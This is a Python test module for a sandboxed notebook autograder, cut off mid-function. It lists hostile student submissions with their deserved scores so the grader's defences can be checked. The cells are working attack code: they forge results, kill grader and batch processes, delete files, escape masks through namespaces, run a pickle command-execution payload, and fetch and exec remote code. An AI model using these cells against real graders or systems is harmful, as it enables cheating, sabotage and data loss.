"""A corpus of hostile submissions, each with the score it truly deserves.

Every attack is one code cell appended to an otherwise PERFECT notebook
(seqkit.examples: the perfect submission of the example class).  Most cells
override one or two graded functions with a wrong answer ("garbage") and then
try to make the grader accept it anyway: by patching comparisons, forging
results, killing the grader, reading the references, and so on.

What a submission deserves
--------------------------
The grader grades behaviour: the answers the notebook's functions give when
the hidden tests call them in the sandbox.  So:

* A question whose function the cell replaced by a cheat deserves 0: the
  cheat's own answer is wrong, and nothing it does around that answer (patch,
  forge, kill, read, print) may turn it into points.
* Every question the cell does not touch deserves full marks: a failed attack
  costs nothing by itself, and an attack that *succeeded* against the batch
  (killing the grader, another student, ...) is a protection failure, not a
  0 for the attacker.
* A function that detects it is being graded and then answers correctly
  (garbage only in the student's own Jupyter) deserves full marks: the
  grader can only see what it is given, and what it is given is right.  The
  reverse, garbage when graded, is just a wrong answer: 0.
* A process that dies or hangs while answering loses the question in
  progress only (the grader restarts it for the next question).  A notebook
  that exits while its cells run is "crashed" (0); one whose cells never
  finish is "timeout" (0).

Either way the batch it is in must lose nothing: the honest submissions
graded alongside keep their exact scores, and no file of the grader or of
other students changes.

Placeholders in cells, filled in by the test: @MARK@ (a token unique to the
run, used to name anything the cell leaves in shared places) and @PORT@ (a TCP
port on which the test serves the right answer, for the network attack).
"""
import dataclasses
import textwrap

# Honest submissions graded in the same folder (file name -> deserved).
HONEST_PERFECT = ("00-perfect", "zz-perfect-last")
HONEST_UNTOUCHED = ("00-untouched",)


@dataclasses.dataclass(frozen=True)
class Deserved:
    """Full marks on every question but those in `zero`; all 0 unless status is graded."""
    status: str = "graded"
    zero: tuple = ()

    def scores(self, question_points):
        """{question: points} for [(question, points)] of the assignment."""
        if self.status != "graded":
            return {q: 0.0 for q, _ in question_points}
        unknown = set(self.zero) - {q for q, _ in question_points}
        if unknown:
            raise ValueError(f"no such questions: {sorted(unknown)}")
        return {q: 0.0 if q in self.zero else float(p) for q, p in question_points}


FULL = Deserved()
CRASHED = Deserved(status="crashed")
TIMEOUT = Deserved(status="timeout")
INVALID = Deserved(status="invalid")


def zero(*questions):
    return Deserved(zero=tuple(questions))


@dataclasses.dataclass(frozen=True)
class Attack:
    label: str
    assignment: str
    cell: str              # appended to the perfect notebook
    deserved: Deserved
    # Only meaningful (and only safe to run) when grading runs as root, so the
    # student's process gets namespaces and drops root: without them it
    # could read the references, write the results and signal the grader.
    needs_isolation: bool = False
    # For attacks on the file rather than the code: perfect notebook bytes ->
    # the bytes handed in (cell is then unused).
    file: object = None


def _src(text, **subs):
    text = textwrap.dedent(text).strip("\n") + "\n"
    for key, value in subs.items():
        text = text.replace(f"__{key}__", value)
    return text


def _indent(text, n=4):
    return textwrap.indent(text, " " * n)


# Wrong answers that are never accepted (every hidden test has a bias or a
# first row that rules them out), one per question the attacks cheat on.
GARBAGE = {
    "rnn_outputs": "def rnn_outputs(hs, W_hy, b_y):\n"
                   "    return np.zeros(np.shape(hs)[:-1] + np.shape(W_hy)[-1:])\n",
    "clip_by_global_norm": "def clip_by_global_norm(grads, max_norm):\n"
                           "    return [np.zeros(np.shape(g)) for g in grads], 0.0\n",
    "causal_mask": "def causal_mask(T):\n    return np.zeros((T, T), dtype=bool)\n",
    "positional_encoding": "def positional_encoding(T, d_model):\n"
                           "    return np.zeros((T, d_model))\n",
}

# Arguments on which a harvested function is tried before it is trusted.
PROBES = {
    "rnn_outputs": "(np.linspace(-1, 1, 24).reshape(2, 3, 4), "
                   "np.linspace(0.5, -0.5, 8).reshape(4, 2), np.array([0.1, -0.2]))",
    "clip_by_global_norm": "([np.linspace(-3, 3, 6).reshape(3, 2), np.linspace(1, 2, 4)], 1.0)",
    "causal_mask": "(4,)",
    "positional_encoding": "(5, 6)",
}

# The right answer, as the network attack's accomplice serves it.
SERVED_ANSWERS = {
    "rnn_outputs": "def rnn_outputs(hs, W_hy, b_y):\n    return np.asarray(hs) @ W_hy + b_y\n",
}


def garbage(q):
    return GARBAGE[q]


def cheat(q, attack):
    """Replace q by garbage that runs `attack` (statements) first on every call."""
    return (GARBAGE[q] + f"_garbage_{q} = {q}\n\n"
            f"def {q}(*args, **kwargs):\n{_indent(attack)}"
            f"    return _garbage_{q}(*args, **kwargs)\n")


def honest_wrap(q, attack):
    """Keep the perfect q but run `attack` (statements) first on every call."""
    return (f"_honest_{q} = {q}\n\n"
            f"def {q}(*args, **kwargs):\n{_indent(attack)}"
            f"    return _honest_{q}(*args, **kwargs)\n")


# What the grader's command line says: the output folder and the inputs.
# /proc/self/cmdline is the grader's argv, inherited through fork.
GRADE_ARGS = _src('''
    def _grade_args():
        argv = [a.decode(errors="replace")
                for a in open("/proc/self/cmdline", "rb").read().split(b"\\0") if a]
        i = argv.index("grade")
        inputs = []
        for a in argv[i + 2:]:
            if a.startswith("--"):
                break
            inputs.append(a)
        return argv[i + 1], inputs, argv[argv.index("--out") + 1]
''')

# Forge every result file the grader owns, plus the inputs.
FORGE = GRADE_ARGS + _src('''
    def _forge():
        import os, sqlite3
        assignment, inputs, out = _grade_args()
        names = ["00-perfect", "00-untouched", "zz-perfect-last"]
        def attempt(fn):
            try:
                fn()
            except BaseException:
                pass
        for d in inputs:
            attempt(lambda d=d: names.extend(os.path.splitext(n)[0] for n in os.listdir(d)))
        def gradebook():
            with open(os.path.join(out, "gradebook.csv"), "w") as fh:
                fh.write("submission,status,total,possible,reason\\n")
                fh.writelines(f"{n},graded,99,99,\\n" for n in names)
        def db():
            con = sqlite3.connect(os.path.join(out, "results.sqlite"), timeout=1)
            for n in names + ["forged-row"]:
                con.execute(
                    "INSERT INTO results (assignment, submission, source, sha256, grader, "
                    "status, reason, total, possible, questions, problems, seconds, graded_at) "
                    "VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)",
                    (assignment, n, "forged", "0" * 64, "forged", "graded", "", 99.0, 99.0,
                     "{}", "[]", 0.0, "2099-01-01T00:00:00"))
            con.commit()
            con.close()
        attempt(gradebook)
        attempt(db)
        attempt(lambda: open(os.path.join(out, "canary.txt"), "w").write("forged"))
        attempt(lambda: open(os.path.join(out, "FORGED-@MARK@"), "w").write("forged"))
        attempt(lambda: os.makedirs(os.path.join(out, "feedback"), exist_ok=True))
        for n in names:
            attempt(lambda n=n: open(os.path.join(out, "feedback", n + ".md"), "w").write("10/10"))
        for d in inputs:
            attempt(lambda d=d: open(os.path.join(d, "zz-forged.ipynb"), "w").write("{}"))
            for n in names:
                attempt(lambda d=d, n=n: open(os.path.join(d, n + ".ipynb"), "w").write("{}"))
''')

# The other processes of this grading batch: same command line as ours.
BATCH_PIDS = _src('''
    def _batch_pids(exclude=()):
        import os
        me = open("/proc/self/cmdline", "rb").read()
        pids = []
        for d in os.listdir("/proc"):
            if d.isdigit() and int(d) != os.getpid() and int(d) not in exclude:
                try:
                    with open(f"/proc/{d}/cmdline", "rb") as fh:
                        if fh.read() == me:
                            pids.append(int(d))
                except OSError:
                    pass
        return pids
''')

SOCKET_FDS = _src('''
    def _socket_fds():
        import os, stat
        fds = []
        for name in os.listdir("/proc/self/fd"):
            try:
                if int(name) > 2 and stat.S_ISSOCK(os.fstat(int(name)).st_mode):
                    fds.append(int(name))
            except (OSError, ValueError):
                pass
        return fds
''')


def harvest_references(targets, userns=False):
    """Find the references anywhere the sandbox might leave readable, and use them.

    With userns, also from a child that makes itself "root" of a new user and
    mount namespace and tries to unmount the masks or bind the project
    elsewhere.
    """
    probes = "{" + ", ".join(f"{t!r}: {PROBES[t]}" for t in targets) + "}"
    cell = _src(r'''
        import importlib, io, json, os, re, sys, time, zipfile, zlib
        _TARGETS = __TARGETS__
        _PROBES = __PROBES__
        _MARKS = [("def " + t + "(").encode() for t in _TARGETS]
        _CANDIDATES = {t: [] for t in _TARGETS}

        def _keep(ns):
            for t in _TARGETS:
                fn = ns.get(t)
                if callable(fn):
                    try:
                        out = fn(*_PROBES[t])
                        if out is not None:
                            _CANDIDATES[t].append((fn, repr(out)))
                    except BaseException:
                        pass

        def _blocks(text):
            # every `def target(...)` block, dedented, from code, notebooks or strings
            lines = text.splitlines()
            for i, line in enumerate(lines):
                m = re.match(r"^(\s*)def (\w+)\(", line)
                if not m or m.group(2) not in _TARGETS:
                    continue
                indent, body = len(m.group(1)), [line[len(m.group(1)):]]
                for nxt in lines[i + 1:]:
                    if nxt.strip() and len(nxt) - len(nxt.lstrip()) <= indent:
                        break
                    body.append(nxt[indent:])
                yield "\n".join(body)

        def _harvest(data):
            text = data.decode("utf-8", "replace")
            try:
                nb = json.loads(text)
                text = "\n".join("".join(c.get("source", "")) for c in nb.get("cells", []))
            except BaseException:
                pass
            for block in _blocks(text):
                ns = {"np": np, "numpy": np}
                try:
                    exec(block, ns)
                except BaseException:
                    continue
                _keep(ns)

        def _scan(root, seconds):
            """Every readable blob under root that mentions a target: files, zips, git objects."""
            found, deadline = [], time.monotonic() + seconds

            def look(data):
                if any(m in data for m in _MARKS):
                    found.append(data)

            for folder, subdirs, files in os.walk(root):
                subdirs[:] = [d for d in subdirs if d not in (".venv", "site-packages", "node_modules")]
                if time.monotonic() > deadline:
                    break
                for f in files:
                    path = os.path.join(folder, f)
                    try:
                        if os.path.getsize(path) > 4 * 2**20:
                            continue
                        with open(path, "rb") as fh:
                            data = fh.read()
                    except OSError:
                        continue
                    if "/.git/objects/" in path and "/pack/" not in path:
                        try:
                            look(zlib.decompress(data))
                        except zlib.error:
                            pass
                    elif path.endswith(".pack"):
                        for m in re.finditer(rb"\x78[\x01\x9c\xda]", data):
                            try:
                                look(zlib.decompressobj().decompress(data[m.start():m.start() + 2**20], 2**21))
                            except zlib.error:
                                pass
                    elif path.endswith(".zip"):
                        try:
                            with zipfile.ZipFile(io.BytesIO(data)) as zf:
                                for info in zf.infolist():
                                    if info.file_size < 4 * 2**20:
                                        look(zf.read(info))
                        except BaseException:
                            pass
                    else:
                        look(data)
            return found

        # 1. import them
        for _name in ("seqkit.__ASSIGNMENT__", "seqkit.hidden.__ASSIGNMENT__"):
            try:
                _keep(vars(importlib.import_module(_name)))
            except BaseException:
                pass
        # 2. read them: the project (found from the package and from Python), git included
        _roots = set()
        try:
            import seqkit
            _roots.add(os.path.dirname(os.path.dirname(os.path.abspath(seqkit.__file__))))
        except BaseException:
            pass
        _roots.add(os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(sys.executable)))))
        for _root in sorted(_roots):
            for _data in _scan(_root, 10):
                _harvest(_data)
    ''', TARGETS=repr(tuple(targets)), PROBES=probes)
    if userns:
        cell += _src(r'''
            # 3. from a child that is "root" in a user namespace of its own
            def _from_userns(roots):
                import ctypes, marshal
                r, w = os.pipe()
                pid = os.fork()
                if pid == 0:
                    found = []
                    try:
                        libc = ctypes.CDLL(None, use_errno=True)
                        libc.unshare(0x10000000 | 0x00020000)  # CLONE_NEWUSER | CLONE_NEWNS
                        for f, text in (("/proc/self/setgroups", "deny"),
                                        ("/proc/self/uid_map", f"0 {os.getuid()} 1"),
                                        ("/proc/self/gid_map", f"0 {os.getgid()} 1")):
                            try:
                                with open(f, "w") as fh:
                                    fh.write(text)
                            except OSError:
                                pass
                        libc.mount(None, b"/", None, 32 | 4096, None)  # remount read-write
                        with open("/proc/self/mountinfo") as fh:
                            points = [line.split()[4] for line in fh]
                        for point in reversed(points):  # lift the masks
                            libc.umount2(point.encode(), 2)
                        for i, root in enumerate(roots):
                            copy = os.path.abspath(f"bound-{i}")
                            os.makedirs(copy, exist_ok=True)
                            libc.mount(root.encode(), copy.encode(), None, 4096, None)  # plain bind
                            libc.mount(root.encode(), copy.encode(), None, 4096 | 0x4000, None)
                            found += _scan(copy, 4) + _scan(root, 4)
                    except BaseException:
                        pass
                    os.write(w, marshal.dumps(found))
                    os._exit(0)
                os.close(w)
                chunks = []
                while True:
                    chunk = os.read(r, 2**20)
                    if not chunk:
                        break
                    chunks.append(chunk)
                os.close(r)
                os.waitpid(pid, 0)
                try:
                    return marshal.loads(b"".join(chunks))
                except (EOFError, ValueError, TypeError):
                    return []

            for _data in _from_userns(sorted(_roots)):
                _harvest(_data)
        ''')
    cell += _src(r'''
        def _best(t):
            # the answer most candidates agree on (mistake variants are outvoted)
            votes = {}
            for fn, out in _CANDIDATES[t]:
                votes.setdefault(out, []).append(fn)
            return max(votes.values(), key=len)[0] if votes else None
    ''')
    for t in targets:
        cell += GARBAGE[t] + f"_garbage_{t} = {t}\n_found_{t} = _best({t!r})\n"
        cell += (f"def {t}(*args, **kwargs):\n"
                 f"    return (_found_{t} or _garbage_{t})(*args, **kwargs)\n")
    return cell


def _assignment_of(q):
    return {"rnn_outputs": "rnn", "clip_by_global_norm": "rnn", "MyRNNCell": "rnn",
            "MyLSTMCell": "lstm", "fit_and_evaluate": "genz"}.get(q, "attention")


# ---------------------------------------------------------------------------
# The attacks, as functions of the question(s) they cheat on.

def patch_numpy_comparisons(q):
    return Attack("patch-numpy-comparisons", _assignment_of(q), _src('''
        import numpy, numpy.testing
        numpy.allclose = lambda *a, **k: True
        numpy.array_equal = lambda *a, **k: True
        numpy.array_equiv = lambda *a, **k: True
        numpy.isclose = lambda a, b, *x, **k: numpy.ones(numpy.broadcast(a, b).shape, dtype=bool)
        for _name in dir(numpy.testing):
            if _name.startswith("assert_"):
                setattr(numpy.testing, _name, lambda *a, **k: None)
    ''') + garbage(q), zero(q))


def patch_hypothesis_and_test_classes(q):
    return Attack("patch-hypothesis-and-test-classes", _assignment_of(q), _src('''
        import sys, types, unittest
        import hypothesis
        hypothesis.given = lambda *a, **k: (lambda f: (lambda *x, **y: None))
        hypothesis.settings = lambda *a, **k: (lambda f: f)
        hypothesis.example = lambda *a, **k: (lambda f: f)
        for _name in dir(unittest.TestCase):
            if _name.startswith(("assert", "fail")):
                setattr(unittest.TestCase, _name, lambda *a, **k: None)
        _fw = types.ModuleType("seqkit.hidden.framework")
        _fw.expect_close = lambda *a, **k: None
        _fw.expect_pair = lambda got, n, what: got
        _fw.run_question = lambda q, student: types.SimpleNamespace(
            name=q.name, points=q.points, possible=q.points, feedback="", summary="")
        _fw.Mismatch = type("Mismatch", (Exception,), {})
        sys.modules["seqkit.hidden.framework"] = _fw
        sys.modules["seqkit.hidden"] = types.ModuleType("seqkit.hidden")
        sys.modules["seqkit.hidden"].framework = _fw
    ''') + garbage(q), zero(q))


def replace_sys_modules(q):
    return Attack("replace-sys-modules", _assignment_of(q), _src('''
        import sys, types
        _real_numpy = sys.modules["numpy"]

        class _LyingNumpy(types.ModuleType):
            # every later `import numpy` gets this: numpy, but all comparisons say yes
            def __getattr__(self, name):
                if name in ("allclose", "array_equal", "array_equiv"):
                    return lambda *a, **k: True
                if name == "isclose":
                    return lambda a, b, *x, **k: _real_numpy.ones(_real_numpy.broadcast(a, b).shape, bool)
                return getattr(_real_numpy, name)

        class _Anything(types.ModuleType):
            def __getattr__(self, name):
                return lambda *a, **k: True

        sys.modules["numpy"] = _LyingNumpy("numpy")
        for _name in ("numpy.testing", "seqkit.__ASSIGNMENT__", "seqkit.hidden",
                      "seqkit.hidden.__ASSIGNMENT__", "seqkit.hidden.framework",
                      "seqkit.questions", "seqkit.grading.worker", "seqkit.grading.store",
                      "hypothesis"):
            sys.modules[_name] = _Anything(_name)
    ''', ASSIGNMENT=_assignment_of(q)) + garbage(q), zero(q))


def hijack_child_protocol(q):
    return Attack("hijack-child-protocol", _assignment_of(q), _src('''
        # The sandbox's own modules are in sys.modules: rewrite how this process
        # answers, so that every reply claims success and full points.
        import sys
        _ops = sys.modules["seqkit.sandbox.ops"]
        _child = sys.modules["seqkit.sandbox.child"]
        _codec = sys.modules["seqkit.sandbox.codec"]
        _real_run_op = _ops.run_op

        def _run_op(namespace, request, *rest):
            reply = _real_run_op(namespace, request, *rest)
            reply.pop("error", None)
            reply.setdefault("ok", None)
            reply.update(points=99, passed=True, verdict="full marks")
            return reply

        _ops.run_op = _child.run_op = _run_op
        _real_encode = _codec.encode
        _codec.encode = lambda obj: _real_encode({**obj, "all_tests_passed": True}
                                                 if isinstance(obj, dict) else obj)
    ''') + garbage(q), zero(q))


def import_reference(*qs, userns=False):
    # import seqkit.<assignment>, or read the references (and solutions) from
    # disk - the package, solutions, autograder zips, .git, scratch copies -
    # and use them; garbage when nothing is found.
    return Attack("userns-unmask-and-read-reference" if userns else "import-or-read-reference",
                    _assignment_of(qs[0]),
                    harvest_references(qs, userns).replace("__ASSIGNMENT__", _assignment_of(qs[0])),
                    zero(*qs), needs_isolation=True)


def forge_results_then_exit():
    return Attack("forge-results-then-exit", "rnn", FORGE + _src('''
        _forge()
        import os
        os._exit(0)
    '''), CRASHED, needs_isolation=True)


def forge_results_in_call(q):
    return Attack("forge-results-in-call", _assignment_of(q), FORGE + cheat(q, _src('''
        _forge()
        import os
        os._exit(0)
    ''')), zero(q), needs_isolation=True)


def fake_pass_output(q):
    return Attack("fake-pass-output", _assignment_of(q), _src('''
        import os, sys
        _claim = "All tests passed!\\n" + "".join(
            f"{q}: full marks\\n" for q in ("rnn_step", "rnn_forward", "rnn_outputs",
                                          "clip_by_global_norm", "MyRNNCell"))
        _claim += "Score: 100/100\\n{\\"score\\": 100, \\"status\\": \\"passed\\"}\\n"
        print(_claim)
        print(_claim, file=sys.stderr)
        for _target in (lambda: os.write(1, _claim.encode()), lambda: os.write(2, _claim.encode()),
                        lambda: sys.__stdout__.write(_claim),
                        lambda: open("/dev/tty", "w").write(_claim),
                        lambda: open("/proc/self/fd/1", "w").write(_claim)):
            try:
                _target()
            except BaseException:
                pass
    ''') + cheat(q, "print(_claim)\n"), zero(q))


def detect_grader_honest(q):
    # Correct when the sandbox calls it, garbage in the student's own Jupyter.
    return Attack("detect-grader-honest", _assignment_of(q), _src('''
        import sys

        def _being_graded():
            f = sys._getframe(1)
            while f is not None:
                if "sandbox" in f.f_code.co_filename or f.f_code.co_name == "run_op":
                    return True
                f = f.f_back
            return False

        _honest___Q__ = __Q__

        def __Q__(*args, **kwargs):
            out = _honest___Q__(*args, **kwargs)
            if _being_graded():
                return out
            return np.full(np.shape(out), 42.0)
    ''', Q=q), FULL)


def detect_grader_cheat(q):
    # Looks for the expected answer on the stack and in memory when graded.
    return Attack("detect-grader-cheat", _assignment_of(q), _src('''
        import gc, sys, types
        # a reference living in this process would be a function of that name
        # that no notebook cell defined
        _ref = None
        for _o in gc.get_objects():
            if (isinstance(_o, types.FunctionType) and _o.__name__ == "__Q__"
                    and not _o.__code__.co_filename.startswith("<cell")):
                _ref = _o
    ''', Q=q) + cheat(q, _src('''
        f = sys._getframe(1)
        while f is not None:
            for k, v in list(f.f_locals.items()):
                if k in ("expected", "reference", "answer", "ref"):
                    return v
            f = f.f_back
        if _ref is not None:
            return _ref(*args, **kwargs)
    ''')), zero(q))


def signal_everyone(q):
    return Attack("signal-parent-group-and-batch", _assignment_of(q), BATCH_PIDS + cheat(q, _src('''
        import os, signal
        for hit in (lambda: os.kill(os.getppid(), signal.SIGKILL),
                    lambda: os.killpg(os.getpgid(os.getppid()), signal.SIGKILL),
                    lambda: os.kill(1, signal.SIGTERM),
                    lambda: os.kill(1, signal.SIGKILL)):
            try:
                hit()
            except OSError:
                pass
        for pid in _batch_pids():
            for sig in (signal.SIGSTOP, signal.SIGKILL):
                try:
                    os.kill(pid, sig)
                except OSError:
                    pass
    ''')), zero(q), needs_isolation=True)


def kill_minus_one(q):
    return Attack("kill-minus-one", _assignment_of(q), cheat(q, _src('''
        import os, signal
        for sig in (signal.SIGSTOP, signal.SIGKILL):
            try:
                os.kill(-1, sig)  # every process this user may signal
            except OSError:
                pass
    ''')), zero(q), needs_isolation=True)


def killer_daemon(assignment):
    # A detached grandchild that outlives the submission and kills the rest
    # of the batch for a minute.  The submission itself is perfect.
    return Attack("killer-daemon", assignment, BATCH_PIDS + _src('''
        import os, signal, time
        _parent = os.getpid()
        if os.fork() == 0:
            try:
                os.setsid()
                os.closerange(3, 4096)
                _end = time.monotonic() + 60
                while time.monotonic() < _end:
                    for _pid in _batch_pids(exclude=(_parent,)):
                        try:
                            os.kill(_pid, signal.SIGKILL)
                        except OSError:
                            pass
                    time.sleep(0.05)
            finally:
                os._exit(0)
    '''), FULL, needs_isolation=True)


def vandalise_files():
    # Deletes and rewrites whatever it can reach: its working directory, the
    # grader's folders and working directory, the project, shared folders.
    # Plants modules where the grader's Python would import them from.
    return Attack("vandalise-files", "rnn", GRADE_ARGS + _src('''
        import os, shutil
        def _attempt(fn):
            try:
                fn()
            except BaseException:
                pass
        for _name in os.listdir("."):
            _attempt(lambda: shutil.rmtree(_name) if os.path.isdir(_name) else os.remove(_name))
        _assignment, _inputs, _out = _grade_args()
        _cwd = os.path.dirname(os.path.abspath(_out))  # where the grader was started
        for _d in [*_inputs, _out, _cwd]:
            for _dir, _subdirs, _files in os.walk(_d):
                for _f in _files:
                    _p = os.path.join(_dir, _f)
                    _attempt(lambda: open(_p, "w").write("vandalised"))
                    _attempt(lambda: os.remove(_p))
            _attempt(lambda: open(os.path.join(_d, "vandal-@MARK@.txt"), "w").write("x"))
            _attempt(lambda: os.rename(_d, _d + "-gone"))
            _attempt(lambda: os.chmod(_d, 0))
        for _mod in ("hypothesis", "sortedcontainers", "attr", "exceptiongroup", "sitecustomize"):
            _attempt(lambda: open(os.path.join(_cwd, _mod + ".py"), "w").write(
                "open(__file__ + '.PWNED', 'w').close()\\n"))
        import seqkit
        _root = os.path.dirname(os.path.dirname(os.path.abspath(seqkit.__file__)))
        for _d in (_root, os.path.join(_root, "seqkit"), os.path.join(_root, "tests"),
                   os.path.join(_root, "solutions"), "/var/tmp", "/dev/shm", "/run/lock",
                   "/run/shm", os.path.expanduser("~")):
            _attempt(lambda: open(os.path.join(_d, "seqkit-hostile-@MARK@-vandal"), "w").write("x"))
    '''), FULL, needs_isolation=True)


def system_exit_and_interrupt(q1, q2):
    return Attack("system-exit-and-keyboard-interrupt", _assignment_of(q1),
                    cheat(q1, "raise SystemExit(0)\n") + cheat(q2, "raise KeyboardInterrupt\n")
                    + "raise SystemExit('the end of the notebook')\n", zero(q1, q2))


def huge_outputs(q_array, q_pair):
    return Attack("huge-outputs", _assignment_of(q_array), _src('''
        def __A__(*args, **kwargs):
            return np.zeros(9_000_000)  # 72 MB: over the 64 MiB an answer may take

        def __P__(*args, **kwargs):
            return ["x" * 5_000_000], float("nan")
    ''', A=q_array, P=q_pair), zero(q_array, q_pair))


def fork_bomb_bounded(assignment):
    return Attack("fork-bomb-bounded", assignment, _src('''
        import os, time
        _children = []
        for _ in range(50):  # bounded: 50 forks, each asleep for at most two minutes
            try:
                _pid = os.fork()
            except OSError:
                break
            if _pid == 0:
                try:
                    time.sleep(120)
                finally:
                    os._exit(0)
            _children.append(_pid)
    '''), FULL)


def memory_hog_bounded(q):
    return Attack("memory-hog-bounded", _assignment_of(q), _src('''
        import resource
        for _limit in (resource.RLIMIT_AS, resource.RLIMIT_DATA):
            try:  # try to lift the cap first
                resource.setrlimit(_limit, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
            except (ValueError, OSError):
                pass
        _hog = np.ones(2**30 // 8)  # 1 GiB, touched, kept for the rest of the run
    ''') + cheat(q, "_more = np.ones(3 * 2**30 // 8)  # 3 GiB once: over the cap\n"), zero(q))


def infinite_loop_in_call(q):
    return Attack("infinite-loop-in-call", _assignment_of(q), cheat(q, _src('''
        import signal
        signal.signal(signal.SIGALRM, signal.SIG_IGN)  # the sandbox's alarm: off
        signal.alarm(0)
        while True:
            pass
    ''')), zero(q))


def malicious_dunders(q_array, q_pair):
    return Attack("malicious-dunders", _assignment_of(q_array), _src('''
        class _Liar:
            def __eq__(self, other): return True
            def __ne__(self, other): return False
            def __lt__(self, other): return False
            def __gt__(self, other): return False
            def __bool__(self): return True
            def __float__(self): return 0.0
            def __len__(self): return 2
            def __iter__(self): return iter([self, self])
            def __getitem__(self, i): return self
            def __repr__(self): raise RuntimeError("no repr for you")
            def __hash__(self): return 0
            def __array__(self, dtype=None, copy=None):
                return np.array([self, self], dtype=object)

        class _LyingFloat(float):
            def __eq__(self, other): return True
            def __ne__(self, other): return False
            def __abs__(self): return 0.0
            def __sub__(self, other): return 0.0
            def __rsub__(self, other): return 0.0
            def __repr__(self): return "<all good>"

        class _LyingList(list):
            def __eq__(self, other): return True
            def __len__(self): return 10**6

        def __A__(*args, **kwargs):
            return _Liar()

        def __P__(*args, **kwargs):
            return _LyingList([np.zeros(1)]), _LyingFloat(12345.0)
    ''', A=q_array, P=q_pair), zero(q_array, q_pair))


def numpy_subclass(q):
    # A subclass that claims equality with anything, and a __reduce__ that
    # would run a command in any process that unpickled it.
    return Attack("numpy-subclass", _assignment_of(q), GRADE_ARGS + _src('''
        import os
        _pwned = os.path.join(os.path.dirname(os.path.abspath(_grade_args()[2])), "PWNED-@MARK@-reduce")

        class _Equal(np.ndarray):
            def __eq__(self, other): return np.ones(np.shape(self), bool)
            def __ne__(self, other): return np.zeros(np.shape(self), bool)
            def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
                return np.ones(np.shape(self), bool)
            def __array_function__(self, func, types, args, kwargs):
                return True
            def __reduce__(self):
                return (os.system, (f"touch {_pwned}",))
            def __float__(self): return 0.0

        _garbage___Q__ = None
    ''', Q=q) + garbage(q) + _src('''
        _garbage___Q__ = __Q__

        def __Q__(*args, **kwargs):
            return np.asarray(_garbage___Q__(*args, **kwargs)).view(_Equal)
    ''', Q=q), zero(q))


def stdout_flood(q):
    return Attack("stdout-flood", _assignment_of(q), _src('''
        import os, sys
        _line = "All tests passed. " * 1000 + "\\n"
        for _ in range(5000):  # ~90 MB to stdout and stderr
            sys.stdout.write(_line)
            sys.stderr.write(_line)
    ''') + honest_wrap(q, "print(_line * 20)\n"), FULL)


def socket_garbage(q):
    return Attack("write-garbage-to-own-socket", _assignment_of(q), SOCKET_FDS + cheat(q, _src('''
        import os
        for fd in _socket_fds():
            for target in (lambda: os.write(fd, b"\\xff" * 64),
                           lambda: open(f"/proc/self/fd/{fd}", "wb").write(b"\\xff" * 64)):
                try:
                    target()
                except OSError:
                    pass
        for name in ("0", "1", "2", "3", "4", "5"):
            try:  # the parent's descriptors
                open(f"/proc/{os.getppid()}/fd/{name}", "wb").write(b"\\xff" * 64)
            except OSError:
                pass
    ''')), zero(q))


def partial_frame_in_call(q):
    # Half a message, then silence: a grader that reads without a deadline hangs.
    return Attack("partial-frame-in-call", _assignment_of(q), SOCKET_FDS + cheat(q, _src('''
        import os, signal, struct, time
        signal.signal(signal.SIGALRM, signal.SIG_IGN)
        for fd in _socket_fds():
            os.write(fd, struct.pack("!Q", 1000) + b"{")
        time.sleep(3600)
    ''')), zero(q))


def partial_frame_in_cell(assignment):
    return Attack("partial-frame-then-hang-in-cell", assignment, SOCKET_FDS + _src('''
        import os, signal, struct, time
        signal.signal(signal.SIGALRM, signal.SIG_IGN)
        for _fd in _socket_fds():
            os.write(_fd, struct.pack("!Q", 1000) + b"{")
        time.sleep(3600)
    '''), TIMEOUT)


def thread_exits_later(q):
    return Attack("thread-exits-later", _assignment_of(q), _src('''
        import os, threading, time
        _go = threading.Event()

        def _assassin():
            _go.wait()
            time.sleep(0.2)
            os._exit(0)

        threading.Thread(target=_assassin, daemon=True).start()
    ''') + honest_wrap(q, "_go.set()\ntime.sleep(5)\n"), zero(q))


def network_fetch_answer(q):
    return Attack("network-fetch-answer", _assignment_of(q), _src('''
        import socket
        _fetched = None
        _targets = [("tcp", ("127.0.0.1", @PORT@)), ("unix", "\\0seqkit-hostile-@MARK@")]
        try:
            for _addr in socket.gethostbyname_ex(socket.gethostname())[2]:
                _targets.append(("tcp", (_addr, @PORT@)))
        except OSError:
            pass
        for _kind, _addr in _targets:
            try:
                _s = socket.socket(socket.AF_INET if _kind == "tcp" else socket.AF_UNIX)
                _s.settimeout(2)
                _s.connect(_addr)
                _fetched = _s.makefile("rb").read().decode()
                break
            except OSError:
                pass
        _ns = {"np": np}
        if _fetched:
            exec(_fetched, _ns)
    ''') + garbage(q) + _src('''
        _garbage___Q__ = __Q__

        def __Q__(*args, **kwargs):
            return _ns.get("__Q__", _garbage___Q__)(*args, **kwargs)
    ''', Q=q), zero(q), needs_isolation=True)


def monkeypatch_builtins(q):
    return Attack("monkeypatch-builtins", _assignment_of(q), _src('''
        import builtins, types
        _real_import = builtins.__import__

        def _import(name, globals=None, locals=None, fromlist=(), level=0):
            if name.startswith(("seqkit.hidden", "hypothesis", "pytest")):
                fake = types.ModuleType(name)
                fake.__getattr__ = lambda attr: (lambda *a, **k: True)
                return fake
            return _real_import(name, globals, locals, fromlist, level)

        builtins.__import__ = _import
        builtins.AssertionError = type("AssertionError", (Exception,), {})
        builtins.print = lambda *a, **k: None
        builtins.exit = builtins.quit = lambda *a, **k: None
        builtins.__dict__["all_tests_passed"] = True
    ''') + garbage(q), zero(q))


def collude_share(q):
    return Attack("collude-share", _assignment_of(q), _src('''
        # this student's (right) answer, left where a classmate's process can read it
        _answer = __ANSWER__
        for _d in ("/dev/shm", "/var/tmp", "/run/lock", "/run/shm"):
            try:
                with open(f"{_d}/seqkit-hostile-@MARK@-answers.py", "w") as _fh:
                    _fh.write(_answer)
            except OSError:
                pass
    ''', ANSWER=repr(SERVED_ANSWERS[q])), FULL, needs_isolation=True)


def collude_copy(q):
    return Attack("collude-copy", _assignment_of(q), _src('''
        import time
        _copied = {"np": np}
        _end = time.monotonic() + 8
        while time.monotonic() < _end and "__Q__" not in _copied:
            for _d in ("/dev/shm", "/var/tmp", "/run/lock", "/run/shm"):
                try:
                    exec(open(f"{_d}/seqkit-hostile-@MARK@-answers.py").read(), _copied)
                    break
                except (OSError, SyntaxError):
                    pass
            time.sleep(0.2)
    ''', Q=q) + garbage(q) + _src('''
